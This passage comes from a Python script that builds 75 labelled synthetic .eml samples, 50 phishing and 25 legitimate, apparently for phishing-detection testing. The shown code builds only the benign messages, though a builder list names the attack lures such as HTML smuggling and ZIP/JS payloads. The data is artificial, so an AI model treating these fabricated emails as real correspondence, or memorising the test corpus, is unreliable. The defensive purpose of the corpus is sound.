<tr><td style="padding:16px 36px 28px 36px;font-size:12px;color:#736c64;border-top:1px solid #e6e1da">This request was sent to {rcpt} by rcastillo@lakemontwater.org through Dropbox Sign.<br>Dropbox, Inc., 1800 Owens St, San Francisco, CA 94158</td></tr>
</table></td></tr></table>
<img src="https://u{p['uid']}.ct.sendgrid.net/wf/open?upn=u001.{alnum(s + 'op', 110)}" alt="" width="1" height="1" border="0"></body></html>"""
    plain = ('Renee Castillo has requested your signature on "Mutual NDA - Lakemont Water Authority / Brackenridge Fluid Systems"\n\n'
             'Message from Renee Castillo: "Ashley, as discussed, please sign the NDA before Thursday\'s pump station walkthrough."\n\n'
             f"Review & sign: {link}\n\nThis request was sent to {rcpt} by rcastillo@lakemontwater.org through Dropbox Sign.\n")
    hdr = f"""From: "Dropbox Sign" <noreply@mail.hellosign.com>
Reply-To: rcastillo@lakemontwater.org
Subject: Renee Castillo has requested your signature on "Mutual NDA - Lakemont Water Authority / Brackenridge Fluid Systems"
Date: {fmt(p['sent'])}
Message-ID: {p['msgid']}
To: {rcpt}"""
    add(m, emit_parts(m, p, hdr, alt(plain, html, bnd(s, "sg"))))


def l23_teams_invite_partner():
    rcpt = f"graham.fenwick@{UK}"
    m = Mail("legit-teams-invite-partner-bid-review", "clean",
             "Genuine Microsoft Teams meeting invitation from a long-standing UK partner (sent from its Exchange Online "
             "tenant, passes DMARC) for a joint bid review, with a real teams.microsoft.com join link and an .ics.",
             "uk", utc(2026, 1, 20, 14, 48, 3), rcpt)
    s = m.stem
    p = exo_sender_block(m, domain="penninehydraulics.co.uk", sender="ruth.ackroyd@penninehydraulics.co.uk", region="uk")
    p["post"] = p["post"].replace("en-US", "en-GB")
    p["ctry"] = "GB"
    tenant = guid(s + "tid")
    thread = f"19%3ameeting_{alnum(s + 'th', 48)}%40thread.v2"
    link = (f"https://teams.microsoft.com/l/meetup-join/{thread}/0?context=%7b%22Tid%22%3a%22{tenant}%22%2c"
            f"%22Oid%22%3a%22{guid(s + 'oid')}%22%7d")
    meeting_id = f"{num(s + 'mi1', 200, 499)} {num(s + 'mi2', 100, 999)} {num(s + 'mi3', 100, 999)} {num(s + 'mi4', 100, 999)}"
    passcode = alnum(s + "pc", 6)
    start = utc(2026, 1, 27, 10, 0)
    inner = ms_paras("""Hi Graham,
 
Booking in the review of the Yorkshire Water framework bid as agreed. I'll circulate the pricing schedule on Monday so we can go through it together.
 
Thanks,
Ruth""") + teams_block_html(link, meeting_id, passcode, tenant, s)
    html = outlook_desktop_html(inner).replace('lang="EN-US"', 'lang="EN-GB"')
    plain = ("Hi Graham,\n\nBooking in the review of the Yorkshire Water framework bid as agreed. I'll circulate the pricing "
             "schedule on Monday so we can go through it together.\n\nThanks,\nRuth\n\n_____________________________________"
             "___________________________________________\nMicrosoft Teams meeting\nJoin on your computer, mobile app or room "
             f"device\nClick here to join the meeting<{link}>\nMeeting ID: {meeting_id}\nPasscode: {passcode}\n")
    cal = ics(f"040000008200E00074C5B7101A82E00800000000{HX(s + 'uid', 16)}0000000000000000100000000{HX(s + 'uid2', 32)}",
              "Joint bid review - Yorkshire Water framework", ("Ruth Ackroyd", "ruth.ackroyd@penninehydraulics.co.uk"),
              [("Graham Fenwick", rcpt), ("Oliver Kettering", f"oliver.kettering@{UK}")], start, 60,
              "Microsoft Teams Meeting", plain)
    body = Multi("alternative", bnd(s), [text(plain), text(html, "html"),
                                         Leaf("text/calendar", cal, "base64", '; charset="utf-8"; method=REQUEST')])
    subj = "Joint bid review - Yorkshire Water framework"
    hdr = f"""From: Ruth Ackroyd <ruth.ackroyd@penninehydraulics.co.uk>
To: Graham Fenwick <{rcpt}>
CC: Oliver Kettering <oliver.kettering@{UK}>
Subject: {subj}
Thread-Topic: {subj}
Thread-Index: {thread_index(s)}
Date: {fmt(p['sent'])}
Message-ID: {p['msgid']}"""
    add(m, emit_parts(m, p, hdr, body))


def l24_hr_handbook_internal():
    rcpt = f"ashley.monroe@{US}"
    sender = f"lauren.bischoff@{US}"
    m = Mail("legit-hr-handbook-2026-acknowledge-internal", "clean",
             "Internal HR announcement from the HR director to all US staff (sent inside the tenant) that the 2026 "
             "handbook is on the HR SharePoint site and must be acknowledged as a Workday task; links only to the "
             "company's own SharePoint and Workday tenant.",
             "us", utc(2026, 1, 6, 15, 30, 9), rcpt)
    s = m.stem
    _, _, smbx_f = internal(m, sender)
    sp = "https://brackenridgefluid.sharepoint.com/sites/HR/Shared%20Documents/Policies/Employee-Handbook-2026.pdf"
    wd = "https://wd5.myworkday.com/brackenridgefluid/d/home.htmld"
    inner = ms_paras(f"""Hello everyone,
 
The 2026 Employee Handbook is now available on the HR site: <a href="{sp}">Employee Handbook 2026 (PDF)</a>. The main changes are the new paid parental leave policy, the updated hybrid-work guidelines and the travel expense limits that take effect February 1.
 
Please read it and complete the <b>"Acknowledge 2026 Employee Handbook"</b> task in your <a href="{wd}">Workday inbox</a> by <b>January 30</b>. You sign in to Workday through Okta as usual; HR will never ask for your password.
 
Managers will review the main changes in team meetings this month. Questions can go to your HR business partner or to hr@brackenridgefluid.com.
 
Thank you,
Lauren
 
Lauren Bischoff
Director, Human Resources | Brackenridge Fluid Systems, Inc.""")
    html = outlook_desktop_html(inner)
    plain = ("Hello everyone,\n\nThe 2026 Employee Handbook is now available on the HR site: Employee Handbook 2026 (PDF)"
             f"<{sp}>. The main changes are the new paid parental leave policy, the updated hybrid-work guidelines and the "
             "travel expense limits that take effect February 1.\n\nPlease read it and complete the \"Acknowledge 2026 "
             f"Employee Handbook\" task in your Workday inbox<{wd}> by January 30. You sign in to Workday through Okta as "
             "usual; HR will never ask for your password.\n\nManagers will review the main changes in team meetings this "
             "month. Questions can go to your HR business partner or to hr@brackenridgefluid.com.\n\nThank you,\nLauren\n\n"
             "Lauren Bischoff\nDirector, Human Resources | Brackenridge Fluid Systems, Inc.\n")
    subj = "2026 Employee Handbook - please acknowledge in Workday by January 30"
    hdr = f"""From: Lauren Bischoff <{sender}>
To: All Staff US <AllStaffUS@{US}>
Subject: {subj}
Thread-Topic: {subj}
Thread-Index: {thread_index(s)}
Date: {fmt(m.when)}
Message-ID: {ms_msgid(smbx_f, s + 'mid')}
Accept-Language: en-US
Content-Language: en-US
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
msip_labels: MSIP_Label_{guid('label-general-us')}_Enabled=True"""
    add(m, emit_internal(m, sender, hdr, alt(plain, html, bnd(s))))


def l25_ringcentral_voicemail():
    rcpt = f"tyler.greaves@{US}"
    m = Mail("legit-ringcentral-voicemail-mp3", "clean",
             "Genuine RingCentral voicemail notification for the customer-service line with the message attached as "
             "an MP3 audio file (not HTML), from RingCentral's own servers; the legitimate counterpart of the "
             "voicemail lures.",
             "us", utc(2025, 5, 8, 14, 15, 37), rcpt)
    s = m.stem
    p = generic_block(m, ip=f"199.255.{num(s + 'ip', 120, 123)}.{num(s + 'ip2', 2, 250)}", helo=f"smtp-out{num(s + 'h', 1, 9)}.ringcentral.com",
                      mailfrom="ringcentral.com", dkim_d="ringcentral.com", selector="rc2048", return_path="<service@ringcentral.com>",
                      hops=[fold(f"Received: from iad41-ntf{num(s + 'n', 10, 99)}.ringcentral.com (unknown [10.{num(s + 'a', 10, 60)}.{num(s + 'b', 1, 250)}.{num(s + 'c', 1, 250)}]) "
                                 f"by smtp-out{num(s + 'h', 1, 9)}.ringcentral.com (Postfix) with ESMTP id {HX(s + 'q', 10)}; {fmt(m.sent(2), -7)}")])
    mp3 = mp3_silence(6)
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#333333">
<table width="560" cellpadding="0" cellspacing="0"><tr><td style="padding:16px 0;border-bottom:1px solid #dddddd"><img src="https://netstorage.ringcentral.com/dpw/common/email/rc_logo.png" height="28" alt="RingCentral"></td></tr>
<tr><td style="padding:16px 0;font-size:18px">You have a new voice message</td></tr>
<tr><td><table cellpadding="4" cellspacing="0" style="font-size:14px">
<tr><td style="color:#777777;width:110px">From</td><td>WIRELESS CALLER (614) 555-0147</td></tr>
<tr><td style="color:#777777">To</td><td>Customer Service (ext. 2301)</td></tr>
<tr><td style="color:#777777">Received</td><td>Thursday, May 8, 2025 10:14 AM</td></tr>
<tr><td style="color:#777777">Length</td><td>00:06</td></tr></table></td></tr>
<tr><td style="padding:14px 0">The message is attached as an audio file. You can also listen in the <a href="https://app.ringcentral.com/messages/voicemail" style="color:#066fac">RingCentral app</a>.</td></tr>
<tr><td style="padding:14px 0;font-size:11px;color:#888888;border-top:1px solid #dddddd">&copy; 1999-2025 RingCentral, Inc. All rights reserved. 20 Davis Drive, Belmont, CA 94002</td></tr></table></body></html>"""
    plain = ("You have a new voice message\n\nFrom: WIRELESS CALLER (614) 555-0147\nTo: Customer Service (ext. 2301)\nReceived: "
             "Thursday, May 8, 2025 10:14 AM\nLength: 00:06\n\nThe message is attached as an audio file. You can also listen in "
             "the RingCentral app: https://app.ringcentral.com/messages/voicemail\n")
    body = Multi("mixed", bnd(s, "java"), [alt(plain, html, bnd(s + "a", "java")),
                                           attachment("audio/mpeg", "Message_20250508_1014.mp3", mp3)])
    hdr = f"""Date: {fmt(p['sent'], -7)}
From: RingCentral <service@ringcentral.com>
To: {rcpt}
Message-ID: <{num(s + 'mid', 1000000000, 1999999999)}.{num(s + 'mid2', 100000, 999999)}.{ts(p['sent'])}{num(s + 'ms', 100, 999)}@iad41-ntf{num(s + 'n', 10, 99)}.ringcentral.com>
Subject: New Voice Message from WIRELESS CALLER (614) 555-0147 on 05/08/2025 at 10:14 AM
MIME-Version: 1.0"""
    add(m, emit_parts(m, p, hdr, body))


# --------------------------------------------------------------------------------------------
# Build
# --------------------------------------------------------------------------------------------

BUILDERS = [
    a01_pwd_expiry_workers, a02_okta_sendgrid, a03_okta_uk_bing, a04_docusign_r2, a05_docusign_genuine_callback,
    a06_adobesign_ipfs, a07_dropboxsign_wordpress, a08_sharepoint_partner_genuine, a09_onedrive_partner_pagesdev,
    a10_voicemail_htm, a11_voicemail_svg, a12_fax_shtml, a13_qr_pdf_mfa, a14_qr_body_benefits, a15_qr_uk_payslip,
    a16_hr_handbook_canva, a17_salary_review_docx, a18_callback_geeksquad, a19_callback_norton,
    a20_callback_paypal_genuine, a21_callback_mcafee_onmicrosoft, a22_callback_ms_billing_genuine,
    a23_vendor_bank_change_lookalike, a24_invoice_hijack_uk, a25_ceo_giftcard_gmail, a26_ceo_wire_lookalike,
    a27_payroll_diversion_icloud, a28_md_whatsapp_uk, a29_legal_claim_google_slides, a30_legal_invoice_forged_thread,
    a31_zoom_invite_lookalike, a32_teams_ics, a33_quarantine_tinyurl, a34_helpdesk_teams_vishing,
    a35_mailbox_spanish_webflow, a36_adp_lookalike, a37_workday_benefits_compromised, a38_teams_unread_google_amp,
    a39_dropbox_genuine_share, a41_docusign_html_telegram, a42_sharepoint_wp_turnstile, a43_notion_proposal,
    a44_w2_payroll_lookalike, a45_remittance_firebase,
    m1_zip_js_remittance, m2_zip_lnk_po, m3_iso_shipping, m4_html_smuggling, m5_copyright_dropbox_zip,
    m6_zoom_recording_msi,
    l01_docusign_vendor_msa, l02_adobesign_nda_signed, l03_sharepoint_internal_share, l04_onedrive_partner_share,
    l05_okta_new_signon, l06_zoom_cloud_recording, l07_adp_pay_statement, l08_workday_merit_statement,
    l09_healthequity_statement, l10_uk_p60_internal, l11_quickbooks_invoice, l12_xero_statement,
    l13_supplier_bank_change_callback, l14_it_mfa_number_matching, l15_it_uk_authenticator_qr,
    l16_industry_newsletter, l17_linkedin_notification, l18_mailchimp_forum_newsletter, l19_personal_gmail_photos,
    l20_paypal_receipt, l21_microsoft_invoice, l22_dropboxsign_customer, l23_teams_invite_partner,
    l24_hr_handbook_internal, l25_ringcentral_voicemail,
]


def check(stem: str, raw: bytes) -> None:
    msg = BytesParser(policy=policy.default).parsebytes(raw)
    for name in ("From", "To", "Subject", "Date", "Message-ID"):
        assert msg[name], f"{stem}: missing {name}"
    assert msg.get_content_type().startswith(("multipart/", "text/")), f"{stem}: odd top type"
    # Every part must decode.
    for part in msg.walk():
        if not part.is_multipart():
            part.get_payload(decode=True)


def main() -> None:
    MESSAGES.clear()
    for build in BUILDERS:
        build()
    stems = [s for s, *_ in MESSAGES]
    assert len(stems) == len(set(stems)), "duplicate stem"
    attacks = [m for m in MESSAGES if "-phish-" in m[0]]
    legit = [m for m in MESSAGES if "-legit-" in m[0]]
    assert len(MESSAGES) == 75 and len(attacks) == 50 and len(legit) == 25, (len(MESSAGES), len(attacks), len(legit))
    for old in MAIL.glob(f"*/b{N}-*.eml"):
        old.unlink()
    lines = []
    for stem, folder, desc, raw in MESSAGES:
        check(stem, raw)
        out = MAIL / folder / f"{stem}.eml"
        out.parent.mkdir(parents=True, exist_ok=True)
        out.write_bytes(raw)
        lines.append(f"samples/mail/{folder}/{stem}.eml | {folder} | {' '.join(desc.split())}")
    MANIFEST.write_text("\n".join(lines) + "\n", encoding="utf-8")
    counts: dict[str, int] = {}
    for _, folder, _, _ in MESSAGES:
        counts[folder] = counts.get(folder, 0) + 1
    print(f"wrote {len(MESSAGES)} messages: " + ", ".join(f"{k}={v}" for k, v in sorted(counts.items())))


if __name__ == "__main__":
    main()
